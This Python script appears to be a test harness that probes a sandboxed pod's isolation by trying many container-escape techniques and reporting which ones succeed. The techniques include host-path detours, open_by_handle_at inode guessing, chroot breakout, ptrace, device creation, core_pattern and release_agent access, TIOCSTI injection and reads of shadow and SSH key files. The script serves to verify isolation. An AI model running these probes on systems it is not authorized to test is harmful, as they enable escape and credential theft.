"""What an attacker runs inside a pod: every attack once, and what each of them got.

    python3 attacker.py targets.json [--stay]

Runs with the machine's own Python and its standard library alone. Prints one line of JSON: for each attack a list of what it
got, empty if nothing. `targets.json` holds what an attacker may know or guess of the machine: paths, process ids, names. Nothing
secret is printed, only that it was reached; and no attack changes the machine in a way that it does not undo.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import glob
import json
import os
import platform
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import termios
import time
import traceback
from collections.abc import Callable, Iterator
from typing import Any

BEGIN, END = "<<loot ", " loot>>"
SECONDS = 20
FEW = 6
"""So many examples of a kind are enough."""

KEYS = ("canary", "admin.kubeconfig", "node.kubeconfig")
"""Names of files that only the node and its other pods have."""

REFUSED = (errno.EPERM, errno.EACCES, errno.ENOSYS)
"""What a wall answers. Another error means that a call was let through to where its arguments are looked at."""

NUMBERS = {
    "x86_64": {
        "open_by_handle_at": 304,
        "bpf": 321,
        "perf_event_open": 298,
        "userfaultfd": 323,
        "keyctl": 250,
        "add_key": 248,
        "request_key": 249,
        "pivot_root": 155,
        "fsopen": 430,
        "open_tree": 428,
        "clone": 56,
        "clone3": 435,
        "shmget": 29,
        "msgget": 68,
        "mq_open": 240,
        "process_vm_readv": 310,
        "ptrace": 101,
        "capset": 126,
        "io_uring_setup": 425,
        "kcmp": 312,
    },
    "aarch64": {
        "open_by_handle_at": 265,
        "bpf": 280,
        "perf_event_open": 241,
        "userfaultfd": 282,
        "keyctl": 219,
        "add_key": 217,
        "request_key": 218,
        "pivot_root": 41,
        "fsopen": 430,
        "open_tree": 428,
        "clone": 220,
        "clone3": 435,
        "shmget": 194,
        "msgget": 186,
        "mq_open": 180,
        "process_vm_readv": 270,
        "ptrace": 117,
        "capset": 91,
        "io_uring_setup": 425,
        "kcmp": 272,
    },
}[platform.machine()]

DEFAULT_CAPABILITIES = {0, 1, 3, 4, 5, 6, 7, 8, 10, 13, 18, 27, 29, 31}
"""By number, those that container runtimes leave: CHOWN, DAC_OVERRIDE, FOWNER, FSETID, KILL, SETGID, SETUID, SETPCAP,
NET_BIND_SERVICE, NET_RAW, SYS_CHROOT, MKNOD, AUDIT_WRITE, SETFCAP."""
NEW_USER, NEW_NS = 0x10000000, 0x00020000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_SILENT = 1, 32, 4096, 16384, 32768
MNT_DETACH = 2

Targets = dict[str, Any]
libc = ctypes.CDLL(None, use_errno=True)
ATTACKS: dict[str, Callable[[Targets], list[str]]] = {}


def attack(function: Callable[[Targets], list[str]]) -> Callable[[Targets], list[str]]:
    ATTACKS[function.__name__] = function
    return function


def call(name: str, *arguments: Any) -> int:
    """A system call by name; OSError if it fails."""
    done: int = libc.syscall(NUMBERS[name], *arguments)
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done


def checked(done: int) -> None:
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def allowed(label: str, act: Callable[..., Any]) -> list[str]:
    """The label, if the act succeeds."""
    try:
        act()
    except OSError:
        return []
    return [label]


def passed(label: str, act: Callable[[], Any]) -> list[str]:
    """The label, if no wall refuses the act, whatever the kernel says to its arguments."""
    try:
        act()
    except OSError as error:
        return [] if error.errno in REFUSED else [f"{label}: {error.strerror}"]
    return [label]


def read_some(path: str | int, dir_fd: int | None = None) -> bytes:
    descriptor = (
        path
        if isinstance(path, int)
        else os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC, dir_fd=dir_fd)
    )
    try:
        return os.read(descriptor, 4096)
    finally:
        os.close(descriptor)


def readable(path: str, dir_fd: int | None = None) -> bool:
    try:
        return bool(read_some(path, dir_fd))
    except OSError:
        return False


def entries(path: str) -> list[str]:
    try:
        return os.listdir(path)
    except OSError:
        return []


def mounts() -> Iterator[tuple[str, str, str, str]]:
    """The part of its filesystem that is shown, mount point, type and options, of each mount that we see."""
    with open("/proc/self/mountinfo") as file:
        for line in file:
            fields = line.split()
            yield fields[3], fields[4], fields[fields.index("-") + 1], fields[5]


def own_folder() -> str:
    for base in ("/tmp", "/dev/shm", "/scratch", "/var/tmp"):
        try:
            return tempfile.mkdtemp(dir=base)
        except OSError:
            continue
    raise OSError(errno.EROFS, "there is nowhere to write")


def status(key: str) -> str:
    with open("/proc/self/status") as file:
        return next(line.split(":")[1].strip() for line in file if line.startswith(key + ":"))


# Files of the machine, the control plane, the node and other pods.


@attack
def files_of_the_node_by_path(targets: Targets) -> list[str]:
    """Every file of data folders, tiers and shared memory, by its path and by every detour known."""
    pids = [each for each in entries("/proc") if each.isdigit()]
    prefixes = ["", "/proc/self/root/../..", "/proc/self/cwd/../../../../../.."]
    prefixes += ["/.machine", "/old_root", "/.old_root", "/.pivot_root", "/.covers", "/mnt", "/host"]
    prefixes += [
        f"/proc/{pid}/{way}" for pid in ["1", *pids[:20], *targets["pids"]] for way in ("root", "cwd")
    ]
    found = []
    for prefix in dict.fromkeys(prefixes):
        found += [prefix + path for path in targets["files"] if readable(prefix + path)][:FEW]
    return found


@attack
def folders_of_the_node_listed(targets: Targets) -> list[str]:
    return [path for path in targets["folders"] if entries(path)]


@attack
def secrets_found_by_search(targets: Targets) -> list[str]:
    """A walk through everything but programs, for files with the names of keys."""
    found: list[str] = []
    deadline = time.monotonic() + SECONDS / 4
    for top in ("tmp", "dev", "var", "run", "home", "root", "mnt", "srv", "media", "old_root", "etc", "opt"):
        for folder, folders, files in os.walk(f"/{top}"):
            folders[:] = [name for name in folders if f"{folder}/{name}" not in targets["own"]]
            found += [f"{folder}/{name}" for name in files if name in KEYS and readable(f"{folder}/{name}")]
            if time.monotonic() > deadline or len(found) > FEW:
                return found
    return found


@attack
def mounts_of_others(targets: Targets) -> list[str]:
    """Whatever is mounted in our view that is a part of another pod or of a shim."""
    seen = [(part, point) for part, point, _, _ in mounts()]
    return [
        f"{part} at {point}"
        for part, point in seen
        if any(uid in part or uid in point for uid in targets["uids"])
        or part.endswith("/.machine")
        or any(point == folder or point.startswith(folder + "/") for folder in targets["folders"])
    ][:FEW]


@attack
def files_above_a_mount(targets: Targets) -> list[str]:
    """`..` out of every volume, by a handle."""
    found = []
    for _, point, _, _ in mounts():
        try:
            held = os.open(point, os.O_PATH | os.O_DIRECTORY | os.O_CLOEXEC)
        except OSError:
            continue
        for depth in (1, 2, 3, 4, 6, 12):
            above = "../" * depth
            found += [
                f"{point}: {above}{path}"
                for path in targets["files"][:40]
                for name in (path.lstrip("/"), os.path.basename(path))
                if ("/" in name or name in KEYS) and readable(above + name, dir_fd=held)
            ][:1]
        os.close(held)
    return found[:FEW]


@attack
def files_by_handle(targets: Targets) -> list[str]:
    """open_by_handle_at needs no path: inode numbers can be guessed, and generation 0 fits all of them."""
    found = []
    points = [point for _, point, kind, _ in mounts() if kind in ("ext4", "ext3", "xfs", "btrfs", "overlay")]
    for point in [*points[:10], "/"]:
        try:
            held = os.open(point, os.O_RDONLY | os.O_CLOEXEC)
        except OSError:
            continue
        for name, inode in {"the disk's own root": 2, **targets["inodes"]}.items():
            handle = struct.pack("<IiII", 8, 1, inode, 0)
            found += allowed(
                f"{name} through {point}",
                lambda handle=handle, held=held: os.close(
                    call("open_by_handle_at", held, ctypes.c_char_p(handle), os.O_RDONLY)
                ),
            )
        os.close(held)
    return found[:FEW]


@attack
def descriptors_left_open(targets: Targets) -> list[str]:
    """Handles that a shim or an agent forgot to close, in us or in any process that we see."""
    found = []
    for pid in [each for each in entries("/proc") if each.isdigit()]:
        for number in entries(f"/proc/{pid}/fd"):
            try:
                leads = os.readlink(f"/proc/{pid}/fd/{number}")
            except OSError:
                continue
            if any(leads.startswith(folder) for folder in targets["folders"]):
                found.append(f"{pid}: {number} is {leads}")
            elif pid == str(os.getpid()) and int(number) > 2 and os.path.isabs(leads):
                found += [f"{pid}: {number} is {leads}"] if not leads.startswith("/proc/") else []
    return found[:FEW]


@attack
def secrets_of_the_machine(targets: Targets) -> list[str]:
    paths = [f"/etc/{name}" for name in ("shadow", "shadow-", "gshadow", "gshadow-", "sudoers")]
    for pattern in ("/etc/ssl/private/*", "/etc/ssh/ssh_host_*_key", "/root/.ssh/*", "/home/*/.ssh/*"):
        paths += glob.glob(pattern)
    return [path for path in paths if readable(path)]


@attack
def homes_of_the_machine(targets: Targets) -> list[str]:
    """All but the installation, which may lie in a home, and a home of our own, in which nothing lies."""

    def left(path: str) -> list[str]:
        if any(each == path for each in targets["installation"]):
            return []
        if path in ("/root", "/home", "/srv") or any(
            each.startswith(f"{path}/") for each in targets["installation"]
        ):
            return [more for name in entries(path) for more in left(f"{path}/{name}")]
        return [path] if os.path.isfile(path) or entries(path) else []

    return [found for path in ("/root", "/home", "/srv") for found in left(path)][:FEW]


@attack
def writes_into_programs(targets: Targets) -> list[str]:
    """A file of ours among the machine's programs, or in the installation; removed at once."""
    found = []
    for folder in ["/usr", "/usr/bin", "/usr/lib", "/usr/local/bin", "/lib", "/sbin", *targets["programs"]]:
        path = f"{folder}/.attack-{os.getpid()}"
        if allowed(path, lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))):
            os.unlink(path)
            found.append(path)
    for file in targets["program_files"]:
        found += allowed(file, lambda file=file: os.close(os.open(file, os.O_WRONLY)))
    return found


@attack
def shared_memory_of_others(targets: Targets) -> list[str]:
    return [f"/dev/shm/{name}" for name in entries("/dev/shm") if name.startswith(("pilothouse", "canary"))]


@attack
def accounts_of_others(targets: Targets) -> list[str]:
    """Service account tokens beside our own."""
    found = [f"/var/run/secrets/{each}" for each in entries("/var/run/secrets") if each != "kubernetes.io"]
    folder = "/var/run/secrets/kubernetes.io"
    return found + [f"{folder}/{name}" for name in entries(folder) if name != "serviceaccount"]


# Processes.


@attack
def processes_of_others(targets: Targets) -> list[str]:
    found = []
    for pid in [each for each in entries("/proc") if each.isdigit()]:
        try:
            words = read_some(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if targets["marker"] in words or "pilothouse" in words:
            found.append(f"{pid}: {words[:60]}")
    return found[:FEW]


@attack
def signals_to_others(targets: Targets) -> list[str]:
    known = {int(each) for each in entries("/proc") if each.isdigit()}
    found = []
    for pid in map(int, targets["pids"]):
        if pid not in known or targets["marker"] in read_some(f"/proc/{pid}/cmdline").decode(
            errors="replace"
        ):
            found += allowed(f"process {pid}", lambda pid=pid: os.kill(pid, 0))
    return found


@attack
def memory_of_others(targets: Targets) -> list[str]:
    seize, found = 0x4206, []
    for pid in map(int, targets["pids"]):
        if pid == os.getpid():
            continue
        found += allowed(f"traced {pid}", lambda pid=pid: call("ptrace", seize, pid, 0, 0))
        found += allowed(f"/proc/{pid}/mem", lambda pid=pid: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)))
        found += allowed(f"/proc/{pid}/environ", lambda pid=pid: read_some(f"/proc/{pid}/environ"))
    return found


@attack
def more_processes_than_the_limit(targets: Targets) -> list[str]:
    """Not a fork bomb, only whether there is a limit that one would meet."""
    return [] if targets["limited"] else ["no limit of processes"]


# Rights.


@attack
def a_system_call_filter_is_missing(targets: Targets) -> list[str]:
    return [] if status("Seccomp") == "2" else [f"Seccomp: {status('Seccomp')}"]


@attack
def new_privileges_can_be_had(targets: Targets) -> list[str]:
    return [] if status("NoNewPrivs") == "1" else [f"NoNewPrivs: {status('NoNewPrivs')}"]


@attack
def ids_of_the_machine(targets: Targets) -> list[str]:
    """Root inside who is root outside, or users who are the same outside. An agent that is not root has but one id to give."""
    with open("/proc/self/uid_map") as file:
        lines = [tuple(map(int, line.split())) for line in file]
    return [
        f"{inner} is {outer}, {count}"
        for inner, outer, count in lines
        if outer == 0 or (inner == outer and count > 1)
    ]


@attack
def capabilities_beyond_the_default(targets: Targets) -> list[str]:
    expected = set() if targets["restricted"] else DEFAULT_CAPABILITIES
    found = []
    for kind in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        mask = int(status(kind), 16)
        beyond = [number for number in range(64) if mask >> number & 1 and number not in expected]
        if beyond:
            found.append(f"{kind}: {beyond}")
    return found


@attack
def capabilities_raised(targets: Targets) -> list[str]:
    header = struct.pack("<Ii", 0x20080522, 0)
    full = struct.pack("<6I", *[0xFFFFFFFF] * 6)
    return allowed("capset", lambda: call("capset", header, full))


@attack
def set_user_id_programs(targets: Targets) -> list[str]:
    """Programs that would make us root, on a mount that lets them."""
    found = []
    for folder in ("/usr/bin", "/usr/sbin", "/usr/lib/openssh"):
        if os.path.isdir(folder) and os.statvfs(folder).f_flag & os.ST_NOSUID:
            continue
        for name in entries(folder):
            try:
                mode = os.stat(f"{folder}/{name}").st_mode
            except OSError:
                continue
            if mode & (stat.S_ISUID | stat.S_ISGID) and stat.S_ISREG(mode):
                found.append(f"{folder}/{name}")
    return found[:FEW]


def ask_program(*words: str) -> str:
    try:
        done = subprocess.run(
            words, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=SECONDS / 2, check=False
        )
    except (OSError, subprocess.TimeoutExpired):
        return ""
    return done.stdout


@attack
def root_by_a_smuggled_program(targets: Targets) -> list[str]:
    """A copy that a root container of the same pod has left in a volume: owned by root, set-user-id."""
    if os.geteuid() == 0 or not os.path.exists("/smuggled/id"):
        return []
    return [f"user {said}" for said in ask_program("/smuggled/id", "-u").split() if said == "0"]


@attack
def capabilities_by_a_smuggled_program(targets: Targets) -> list[str]:
    """The same with file capabilities."""
    if not os.path.exists("/smuggled/cat"):
        return []
    said = ask_program("/smuggled/cat", "/proc/self/status")
    masks = [line.split()[1] for line in said.splitlines() if line.startswith("CapEff")]
    return [f"CapEff: {mask}" for mask in masks if int(mask, 16) & ~int(status("CapEff"), 16)]


@attack
def root_by_su(targets: Targets) -> list[str]:
    """With rules for authentication of our own, from a config map: whoever comes is let in."""
    if os.geteuid() == 0:
        return []
    return [f"user {said}" for said in ask_program("su", "root", "-c", "id -u").split() if said == "0"]


@attack
def root_by_setuid(targets: Targets) -> list[str]:
    """Only those who may have capabilities at all; the others are refused by the kernel."""
    if os.geteuid() == 0:
        return []
    return allowed("setresuid", lambda: os.setresuid(0, 0, 0))


# Namespaces and mounts.


@attack
def user_namespaces(targets: Targets) -> list[str]:
    """In one of its own an attacker has every capability, and with them most of the kernel's holes."""

    def cloned() -> None:
        pid = call("clone", NEW_USER | int(signal.SIGCHLD), 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)

    def cloned3() -> None:
        order = struct.pack("<8Q", NEW_USER, 0, 0, 0, int(signal.SIGCHLD), 0, 0, 0)
        pid = call("clone3", order, len(order))
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)

    found = allowed("clone", cloned) + allowed("clone3", cloned3)
    return found + allowed("unshare", lambda: checked(libc.unshare(NEW_USER)))


def mount(source: str, target: str, kind: str, flags: int, options: str = "") -> None:
    checked(libc.mount(source.encode(), target.encode(), kind.encode() or None, flags, options.encode()))


@attack
def mounts_made(targets: Targets) -> list[str]:
    folder = own_folder()
    found = []
    for label, source, kind, flags, options in (
        ("tmpfs", "none", "tmpfs", 0, ""),
        ("proc", "proc", "proc", 0, ""),
        ("sysfs", "sysfs", "sysfs", 0, ""),
        ("cgroup", "cgroup", "cgroup", 0, "memory"),
        ("cgroup2", "none", "cgroup2", 0, ""),
        ("bind of /", "/", "", MS_BIND | MS_REC, ""),
        ("the disk", targets["disk"], "ext4", MS_RDONLY, ""),
    ):
        got = allowed(label, lambda: mount(source, folder, kind, flags, options))  # noqa: B023
        if got:
            libc.umount2(folder.encode(), MNT_DETACH)
        found += got
    os.rmdir(folder)
    found += allowed("fsopen", lambda: os.close(call("fsopen", b"tmpfs", 0)))
    return found + allowed("open_tree", lambda: os.close(call("open_tree", -100, b"/", 1)))


@attack
def mounts_changed(targets: Targets) -> list[str]:
    """Read-only made writable, and masks taken off."""
    found = []
    for path in ("/usr", "/proc/sys", "/proc", "/sys", "/etc", "/"):
        found += allowed(f"{path} writable", lambda path=path: mount("none", path, "", MS_REMOUNT | MS_BIND))
    for path in ("/proc/kcore", "/proc/sys", "/proc/keys", "/sys/firmware", "/dev/mqueue"):
        found += allowed(
            f"{path} unmounted", lambda path=path: checked(libc.umount2(path.encode(), MNT_DETACH))
        )
    return found


@attack
def another_root(targets: Targets) -> list[str]:
    found = passed("pivot_root", lambda: call("pivot_root", b"/", b"/"))
    return found + allowed("unshare of mounts", lambda: checked(libc.unshare(NEW_NS)))


@attack
def out_of_a_chroot(targets: Targets) -> list[str]:
    """The oldest way out: a handle of a folder that is outside of a root that we have made ourselves."""
    folder = own_folder()
    held = os.open("/", os.O_RDONLY | os.O_CLOEXEC)
    try:
        os.chroot(folder)
    except OSError:
        return []
    os.fchdir(held)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return [path for path in targets["files"] if readable(path)][:FEW]


@attack
def the_machine_renamed(targets: Targets) -> list[str]:
    return allowed("sethostname", lambda: socket.sethostname(socket.gethostname()))


# The kernel.


@attack
def devices(targets: Targets) -> list[str]:
    """The disk, memory and the kernel's log: those that are there, and those that we make."""
    found = []
    for name in entries("/dev"):
        try:
            mode = os.stat(f"/dev/{name}").st_mode
        except OSError:
            continue
        if stat.S_ISBLK(mode) or name in ("mem", "kmem", "kmsg", "port", "fuse", "kvm"):
            found.append(f"/dev/{name}")
    folder = own_folder()
    for label, kind, device in (
        ("disk", stat.S_IFBLK, targets["device"]),
        ("mem", stat.S_IFCHR, os.makedev(1, 1)),
        ("kmsg", stat.S_IFCHR, os.makedev(1, 11)),
    ):
        for place in (folder, "/dev", "/scratch"):
            path = f"{place}/attack-{label}"
            if allowed(path, lambda: os.mknod(path, kind | 0o600, device)):  # noqa: B023
                found += allowed(f"{label}, made in {place}", lambda: read_some(path))  # noqa: B023
                os.unlink(path)
    os.rmdir(folder)
    return found


@attack
def calls_that_only_the_machine_needs(targets: Targets) -> list[str]:
    nothing = ctypes.create_string_buffer(128)
    found = []
    # An array of one element; a counter of our own instructions.
    found += passed("bpf", lambda: call("bpf", 0, struct.pack("<IIII", 2, 4, 4, 1) + bytes(112), 128))
    found += passed("perf_event_open", lambda: call("perf_event_open", nothing, 0, -1, -1, 0))
    found += passed("userfaultfd", lambda: call("userfaultfd", 0))
    found += passed("io_uring_setup", lambda: call("io_uring_setup", 1, nothing))
    found += passed("open_by_handle_at", lambda: call("open_by_handle_at", -1, nothing, 0))
    return found + passed("kcmp", lambda: call("kcmp", os.getpid(), os.getpid(), 0, 0, 0))


@attack
def keys_of_others(targets: Targets) -> list[str]:
    """What another pod has put into its user's keyring, which is the same for the same user."""
    found = []
    for name, ring in (("session", -3), ("user", -4), ("user session", -5)):
        found += allowed(
            f"{name} keyring",
            lambda ring=ring: call("keyctl", 10, ring, b"user", targets["marker"].encode(), 0),
        )
    found += allowed("request_key", lambda: call("request_key", b"user", targets["marker"].encode(), 0, 0))
    try:
        if targets["marker"].encode() in read_some("/proc/keys"):
            found.append("/proc/keys")
    except OSError:
        pass
    return found


@attack
def parts_of_proc_and_sys_read(targets: Targets) -> list[str]:
    paths = [
        "/proc/kcore",
        "/proc/keys",
        "/proc/timer_list",
        "/proc/sched_debug",
        "/proc/kmsg",
        "/proc/scsi/scsi",
    ]
    found = [path for path in paths if readable(path)]
    found += [path for path in ("/sys/firmware", "/proc/acpi", "/proc/scsi") if entries(path)]
    return found + allowed("the kernel's log", lambda: checked(libc.klogctl(3, bytes(4096), 4096)))


@attack
def parts_of_proc_and_sys_opened_for_writing(targets: Targets) -> list[str]:
    """Nothing is written: to open them is enough."""
    paths = [f"/proc/sys/{name}" for name in ("kernel/core_pattern", "kernel/modprobe", "vm/drop_caches")]
    paths += [
        "/proc/sys/kernel/hostname",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sys/fs/binfmt_misc/register",
    ]
    paths += ["/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/sys/kernel/uevent_helper"]
    paths += ["/sys/kernel/mm/ksm/run", "/sys/power/state", "/sys/module/printk/parameters/time"]
    paths += ["/sys/kernel/mm/transparent_hugepage/enabled"]
    return [
        path
        for path in paths
        if allowed(path, lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_CLOEXEC)))
    ]


@attack
def limits_raised(targets: Targets) -> list[str]:
    """Every file of control groups that decides something: opened for writing, its own value written back."""
    found = []
    wanted = (
        "cgroup.procs",
        "tasks",
        "memory.limit_in_bytes",
        "memory.max",
        "pids.max",
        "cpu.max",
        "cpu.cfs_quota_us",
        "release_agent",
        "notify_on_release",
        "cgroup.subtree_control",
        "devices.allow",
    )
    deadline = time.monotonic() + SECONDS / 4
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in set(wanted) & set(files):
            path = f"{folder}/{name}"
            found += allowed(path, lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_CLOEXEC)))
        if len(found) > FEW or time.monotonic() > deadline:
            break
    return found[:FEW]


@attack
def packets_of_others(targets: Targets) -> list[str]:
    """The network is shared with the machine: a socket for packets would hear all of it."""
    found = allowed("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
    return found + allowed("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())


# What others left for those whom they know.


@attack
def system_v_memory_of_others(targets: Targets) -> list[str]:
    key = ctypes.c_int(targets["key"])
    found = allowed("shared memory", lambda: call("shmget", key, ctypes.c_size_t(0), 0))
    return found + allowed("message queue", lambda: call("msgget", key, 0))


@attack
def message_queues_of_others(targets: Targets) -> list[str]:
    found = allowed("mq_open", lambda: os.close(call("mq_open", targets["marker"].encode(), 0, 0, 0)))
    return found + [f"/dev/mqueue/{name}" for name in entries("/dev/mqueue") if targets["marker"] in name]


def connects(address: str) -> bool:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        try:
            connection.connect(address)
        except OSError:
            return False
    return True


@attack
def abstract_sockets_of_others(targets: Targets) -> list[str]:
    with open("/proc/net/unix") as file:
        listed = [line.split()[7] for line in file if len(line.split()) > 7]
    ours = [name[1:] for name in listed if name.startswith("@") and "pilothouse" in name]
    return [f"@{name}" for name in dict.fromkeys([targets["marker"], *ours]) if connects("\0" + name)][:FEW]


@attack
def sockets_of_the_node(targets: Targets) -> list[str]:
    return [path for path in targets["sockets"] if connects(path)][:FEW]


@attack
def terminals_of_others(targets: Targets) -> list[str]:
    """A terminal that another container or a person on the machine types in."""
    ours = {os.ttyname(number) for number in range(3) if os.isatty(number)}
    found = []
    for name in entries("/dev/pts"):
        path = f"/dev/pts/{name}"
        if name.isdigit() and path not in ours:
            found += allowed(path, lambda path=path: os.close(os.open(path, os.O_RDWR | os.O_NOCTTY)))
    return found[:FEW]


@attack
def typed_into_the_agents_terminal(targets: Targets) -> list[str]:
    def typed(path: str) -> None:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        try:
            fcntl.ioctl(terminal, termios.TIOCSTI, b"\n")
        finally:
            os.close(terminal)

    return [path for path in ("/dev/tty", "/dev/stdin") if allowed(path, lambda path=path: typed(path))]


def tried(function: Callable[[Targets], list[str]], targets: Targets) -> list[str]:
    """In a process of its own, which an attack may spoil as it likes."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        signal.alarm(SECONDS)
        try:
            found = function(targets)
        except BaseException:  # noqa: BLE001 (an attack that is broken must not look like one that got nothing)
            found = ["broken: " + traceback.format_exc()[-400:]]
        os.write(writer, json.dumps(found).encode()[:60000])
        os._exit(0)
    os.close(writer)
    said = b""
    while part := os.read(reader, 65536):
        said += part
    os.close(reader)
    _, code = os.waitpid(pid, 0)
    if not said:
        return (
            []
            if os.WIFSIGNALED(code) and os.WTERMSIG(code) == signal.SIGSYS
            else [f"broken: ended with {code}"]
        )
    result: list[str] = json.loads(said)
    return result


def main() -> None:
    with open(sys.argv[1]) as file:
        targets = json.load(file)
    targets["restricted"] = "--restricted" in sys.argv
    loot = {name: tried(function, targets) for name, function in ATTACKS.items()}
    print(BEGIN + json.dumps({"loot": loot}) + END, flush=True)
    if "--stay" in sys.argv:
        os.execvp("sleep", ["sleep", "3600"])


if __name__ == "__main__":
    main()
